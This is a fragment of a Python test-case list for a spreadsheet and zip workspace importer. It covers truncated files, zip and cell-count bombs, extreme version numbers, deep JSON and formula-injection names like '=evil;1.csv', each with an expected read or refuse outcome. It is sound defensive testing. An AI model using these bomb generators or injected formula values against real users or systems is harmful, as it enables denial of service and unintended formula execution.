        C("workspace_good", "export", "equipo.xlsx", lambda: export_workspace(_workspace("Equipo bueno")), None, "read"),
        C("workspace_truncated", "broken", "equipo.xlsx",
          lambda: export_workspace(_workspace("Equipo roto"))[:20_000], None, "refuse"),
        C("bomb_1e9_char_string", "bomb", "bomba.xlsx", lambda: bomb_shared_string(10**9), None, "refuse"),
        C("workspace_version_1e999", "ambiguity", "version.zip",
          lambda: workspace_zip_with(_json_part(_version_1e999)), None, "refuse"),
        C("workspace_deep_json", "bomb", "profundo.zip", lambda: workspace_zip_with(_json_part(_deep_setting)), None,
          "either"),
        C("bomb_1e8_cells", "oversized", "celdas.xlsx", lambda: bomb_cells(10_000, 10_000), None, "refuse"),
        C("workspace_stray_byte", "encoding", "mezcla.zip", lambda: workspace_zip_with(_stray_byte_dataset), None,
          "either"),
        C("workspace_injection", "injection", "inyeccion.xlsx",
          lambda: export_workspace(prefixed_workspace(INJECTIONS, "=Equipo;+1", "=evil;1.csv")), None, "read"),
    ]
